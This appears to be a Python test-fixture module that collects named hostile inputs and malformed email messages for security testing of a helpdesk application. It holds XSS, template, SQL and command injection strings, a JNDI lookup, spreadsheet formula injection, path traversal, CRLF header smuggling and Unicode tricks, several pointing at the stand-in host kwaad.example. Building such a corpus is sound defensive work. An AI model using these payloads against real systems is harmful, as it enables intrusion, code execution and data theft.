"""What people type who mean harm, or whose keyboard does: each input by a name, for every door.

`INPUTS` are texts; `MAILS` are whole messages, odd in their headers or parts. Markers: `alert` stands for any script.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

HANDLERS = (
    "onclick", "onerror", "onload", "onmouseover", "onfocus", "onblur", "onanimationstart", "onbegin", "ontoggle",
    "onpointerenter", "oncut", "onpaste", "onscroll", "onwheel", "onhashchange", "onbeforetoggle",
)  # fmt: skip
ELEMENTS = (
    "img", "svg", "video", "audio", "body", "details", "input", "iframe", "marquee", "object", "embed", "math", "form",
    "button", "select", "template",
)  # fmt: skip
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//kwaad.example", "\\\\kwaad.example", "file:///etc/passwd",
)  # fmt: skip
MARKUP = {
    "script": "<script>alert(1)</script>",
    "script with a source": "<script src=//kwaad.example/x.js></script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script that is not closed": "<script>alert(1)",
    "script with a slash": "<script/x>alert(1)</script>",
    "script of a module": "<script type=module>import('//kwaad.example')</script>",
    "end of a textarea": "</textarea><script>alert(1)</script>",
    "end of a title": "</title><script>alert(1)</script>",
    "end of a style": "</style><script>alert(1)</script>",
    "end of a comment": "--><script>alert(1)</script><!--",
    "end of an attribute": '"><script>alert(1)</script>',
    "end of a quoted attribute": "' autofocus onfocus='alert(1)",
    "end of an attribute with a space": "x onmouseover=alert(1)",
    "backtick attribute": "`onmouseover=alert(1)",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "doctype with an entity": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg set href": "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "svg foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "mathml link": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template mutation": "<template><script>alert(1)</script></template>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "base": "<base href=//kwaad.example/>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "meta policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "link stylesheet": "<link rel=stylesheet href=//kwaad.example/x.css>",
    "style import": "<style>@import '//kwaad.example/x.css';</style>",
    "style expression": '<p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>',
    "form elsewhere": "<form action=//kwaad.example><input name=csrfmiddlewaretoken></form>",
    "button that acts elsewhere": "<button form=x formaction=javascript:alert(1)>x</button>",
    "frame with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=javascript:alert(1)></object>",
    "htmx": "<div hx-get=/account/logout/ hx-trigger=load hx-on:click=alert(1)>x</div>",
    "htmx by data": "<div data-hx-post=/meldingen/ data-hx-trigger=load>x</div>",
    "dom clobbering": "<a id=htmx name=config><img name=body id=cookie>",
    "slot": "<x-a><template shadowrootmode=open><script>alert(1)</script></template></x-a>",
    "entity in hex": "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "entity without semicolon": "&lt script&gt alert(1)",
    "entity twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "unicode escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "unclosed comment": "<!-- ",
    "unclosed tag": '<img src="x',
    "many open brackets": "<" * 2000,
    "deep nesting": "<b>" * 900,
    "null in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
}
TEMPLATES = {
    f"template {text[:24]}": text
    for text in (
        "{{7*7}}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include '/etc/passwd' %}", "{% load static %}", "{{ request.user }}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{#", "{% comment %}", "{{", "}}", "{% endblock %}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "${jndi:ldap://kwaad.example/a}", "%{(#a=1)}", "*{7*7}", "[[${7*7}]]", "%s%s%n%x", "%(name)s", "{0}", "{name}",
        "{0.__class__}", "$(id)", "`id`", "; cat /etc/passwd", "| id", "&& id", "@{1}", "<!--#exec cmd=id -->",
    )
}  # fmt: skip
SQL = {
    f"sql {text[:24]}": text
    for text in (
        "' OR '1'='1", "\" OR 1=1 --", "'; DROP TABLE incidents_melding; --", "1; SELECT pg_sleep(9)", "' UNION SELECT password FROM desk_user --",
        "%", "_", "%%%%%", "\\", "\\'", "$$", "$1", "E'\\x00'", ":*!&|()<->", "a & b | !c", "a:*", "'a' <-> 'b'", "((((", "))))", "\"", "''''",
        "a OR " * 300, "* " * 500, "(a+)+$" + "a" * 60, "-" * 300,
    )
}  # fmt: skip
CHARACTERS = {f"control character {code:02x}": f"voor{chr(code)}na" for code in (*range(1, 9), 11, 12, *range(14, 32), 127, 0x85)} | {
    "nul": "voor\x00na",
    "lone high surrogate": "voor\ud800na",
    "lone low surrogate": "voor\udc00na",
    "swapped surrogates": "\udc00\ud800",
    "byte order mark": "\ufeffvoor",
    "not a character": "voor\ufffe\uffffna",
    "right to left override": "factuur\u202egnp.exe",
    "isolates that stay open": "\u2066\u2067\u2068voor",
    "arabic and hebrew": "مرحبا שלום",
    "zero width": "voor\u200b\u200c\u200d\u2060na",
    "soft hyphens": "v\xado\xado\xadr",
    "combining marks": "e" + "\u0301" * 400,
    "family emoji": "👨‍👩‍👧‍👦🏳️‍🌈👩🏽‍⚕️",
    "flags": "🇳🇱🇧🇪",
    "tags of an emoji": "🏴\U000e0067\U000e0062\U000e007f",
    "private use": "\ue000\U0010fffd",
    "mathematical letters": "𝓶𝓮𝓵𝓭𝓲𝓷𝓰",
    "homoglyphs": "аdmіn@dеsk.example",
    "line separator": "voor\u2028na\u2029einde",
    "next line": "voor\u0085na",
    "no-break spaces": "voor\xa0\u202f\u3000na",
    "turkish dotless": "İıŞş",
    "sharp s and ligatures": "ßﬁŒĳ",
    "ansi colours": "\x1b[31mrood\x1b[0m",
    "ansi clear screen": "\x1b[2J\x1b[H",
    "ansi title": "\x1b]0;kwaad\x07",
    "ansi link": "\x1b]8;;https://kwaad.example\x07klik\x1b]8;;\x07",
    "backspaces": "veilig\x08\x08\x08\x08\x08\x08kwaad",
    "crlf header": "voor\r\nBcc: kwaad@kwaad.example",
    "crlf response": "voor\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: sessionid=x",
    "lf header": "voor\nX-Kwaad: ja",
    "cr alone": "voor\rna",
    "log line": "voor\n2026-01-01 INFO django: aangemeld als beheerder",
    "mail from line": "\nFrom kwaad@kwaad.example\n",
    "dot alone": "voor\r\n.\r\nMAIL FROM:<kwaad@kwaad.example>",
    "huge": "x" * 19_000,
    "over the limit": "x" * 400_000,
    "one word of ten thousand": "w" * 10_000,
    "ten thousand lines": "\n" * 10_000 + "x",
    "only spaces": " " * 500,
    "only a space": " ",
    "a bsn that is none": "123456789",
}  # fmt: skip
FORMULAS = {
    f"formula {text[:20]}": text
    for text in (
        "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"//kwaad.example\",\"klik\")",
        "=IMPORTXML(CONCAT(\"//kwaad.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\"=1+1", ";=1+1", "＝1+1",
    )
}  # fmt: skip
PATHS = {
    f"path {text[:24]!r}": text
    for text in (
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc/passwd",
        "....//....//etc/passwd", "file:///etc/passwd", "con", "nul.txt", "a" * 300 + ".txt", ".htaccess", "~root", "x.php.png", "naam.exe\u202egnp",
    )
}  # fmt: skip
LINKS = {
    f"markdown {text[:28]!r}": text
    for text in (
        "[x](javascript:alert(1))", "![x](javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n[x]", "[x](//kwaad.example)", "![x](https://kwaad.example/pixel.gif)", "[a](\"onmouseover=alert(1))",
        "https://desk.example@kwaad.example/", "https://desk.example\\@kwaad.example/", "http://xn--dsk-fma.example/", "https://kwaad.example/?q=<script>",
        "mailto:x@kwaad.example?bcc=y@kwaad.example", "tel:+31612345678", "https://kwaad.example/" + "a" * 3000, "javascript://%0aalert(1)",
        "```html\n<script>alert(1)</script>\n```", "# <img src=x onerror=alert(1)>", "| <b> | `x` |\n|-|-|", "M26-00001'><script>alert(1)</script>",
    )
}  # fmt: skip
JSONS = {
    f"json {text[:20]!r}": text
    for text in ("null", "true", "[]", "{}", "{\"a\": 1, \"a\": 2}", "NaN", "1e999", "__proto__", "constructor.prototype", "{\"$ne\": null}", "[object Object]", "undefined")
}  # fmt: skip


def _handlers() -> Iterator[tuple[str, str]]:
    for number, (element, handler) in enumerate(product(ELEMENTS, HANDLERS)):
        if number % 3 == 0:
            yield (
                f"{element} with {handler}",
                f"<{element} src=x autofocus open {handler}=alert(1)>x</{element}>",
            )


def _addresses() -> Iterator[tuple[str, str]]:
    for scheme in SCHEMES:
        yield f"link to {scheme[:24]!r}", f'<a href="{scheme}">klik</a>'
        yield f"picture of {scheme[:24]!r}", f'<img src="{scheme}">'


INPUTS = {
    **MARKUP, **TEMPLATES, **SQL, **CHARACTERS, **FORMULAS, **PATHS, **LINKS, **JSONS, **dict(_handlers()), **dict(_addresses()),
}  # fmt: skip


def _mail(*head: str, body: str = "Het scherm blijft leeg.") -> bytes:
    return ("\r\n".join(head) + "\r\n\r\n" + body).encode("utf-8", "surrogateescape")


WHO = "From: Wil Voorbeeld <wil@zorg.example>"
TO = "To: desk@example.nl"
MAILS = {
    "no headers": b"alleen tekst",
    "empty": b"",
    "only line ends": b"\r\n\r\n\r\n",
    "two senders": _mail(WHO, "From: <kwaad@kwaad.example>", TO, "Subject: x"),
    "sender without address": _mail("From: Noor", TO, "Subject: x"),
    "sender with a script": _mail('From: "<script>alert(1)</script>" <wil@zorg.example>', TO, "Subject: x"),
    "sender is two addresses": _mail("From: wil@zorg.example, kwaad@kwaad.example", TO, "Subject: x"),
    "sender in angle brackets twice": _mail("From: <wil@zorg.example> <kwaad@kwaad.example>", TO, "Subject: x"),
    "sender with a route": _mail("From: <@kwaad.example:wil@zorg.example>", TO, "Subject: x"),
    "sender with a line break": _mail("From: Wil\r\n Bcc: kwaad@kwaad.example <wil@zorg.example>", TO, "Subject: x"),
    "sender with homoglyphs": _mail("From: <wіl@zorg.example>", TO, "Subject: x"),
    "sender encoded to hide another": _mail("From: =?utf-8?q?wil=40zorg.example=00?= <kwaad@kwaad.example>", TO, "Subject: x"),
    "two subjects": _mail(WHO, TO, "Subject: een", "Subject: <script>alert(1)</script>"),
    "subject of 100 kB": _mail(WHO, TO, "Subject: " + "x" * 100_000),
    "subject encoded with line breaks": _mail(WHO, TO, "Subject: =?utf-8?q?x=0D=0ABcc:_kwaad=40kwaad.example?="),
    "subject encoded with a script": _mail(WHO, TO, "Subject: =?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?="),
    "unknown charset": _mail(WHO, TO, "Subject: x", "Content-Type: text/plain; charset=kwaad"),
    "utf-7": _mail(WHO, TO, "Subject: x", "Content-Type: text/plain; charset=utf-7", body="+ADw-script+AD4-alert(1)"),
    "unknown encoding": _mail(WHO, TO, "Subject: x", "Content-Transfer-Encoding: kwaad"),
    "broken base64": _mail(WHO, TO, "Subject: x", "Content-Transfer-Encoding: base64", body="%%%=="),
    "boundary that is missing": _mail(WHO, TO, "Subject: x", 'Content-Type: multipart/mixed; boundary=""'),
    "boundary that never comes": _mail(WHO, TO, "Subject: x", 'Content-Type: multipart/mixed; boundary="niets"'),
    "parts in parts in parts": _mail(
        WHO, TO, "Subject: x", 'Content-Type: multipart/mixed; boundary="0"',
        body="".join(f'--{n}\r\nContent-Type: multipart/mixed; boundary="{n + 1}"\r\n\r\n' for n in range(150)),
    ),
    "a thousand empty parts": _mail(WHO, TO, "Subject: x", 'Content-Type: multipart/mixed; boundary="b"', body="--b\r\n\r\n\r\n" * 1000 + "--b--"),
    "html with everything": _mail(
        WHO, TO, "Subject: x", "Content-Type: text/html",
        body="<base href=//kwaad.example><style>@import '//kwaad.example'</style><script>alert(1)</script><img src=//kwaad.example/p.gif>"
        "<meta http-equiv=refresh content=0><form action=//kwaad.example><input></form><img src=cid:zelf><p onclick=alert(1)>Leeg</p>",
    ),
    "message about itself": _mail(WHO, TO, "Subject: x", "Message-ID: <a@b>", "In-Reply-To: <a@b>", "References: <a@b>"),
    "references of 50 kB": _mail(WHO, TO, "Subject: x", "References: " + " ".join(f"<{n}@b>" for n in range(5000))),
    "file name that climbs": _mail(
        WHO, TO, "Subject: x", 'Content-Type: text/plain; name="../../../etc/passwd"',
        'Content-Disposition: attachment; filename="../../etc/passwd"',
    ),
    "file name with a line break": _mail(WHO, TO, "Subject: x", "Content-Disposition: attachment; filename*=utf-8''a%0d%0aX-Kwaad:ja.txt"),
    "a million header lines less one": _mail(WHO, TO, "Subject: x", *(f"X-{n}: y" for n in range(3000))),
    "nul bytes": _mail(WHO, TO, "Subject: x\x00y", body="voor\x00na"),
    "date that is none": _mail(WHO, TO, "Subject: x", "Date: 32 Foo 99999 99:99:99 +9999"),
}  # fmt: skip
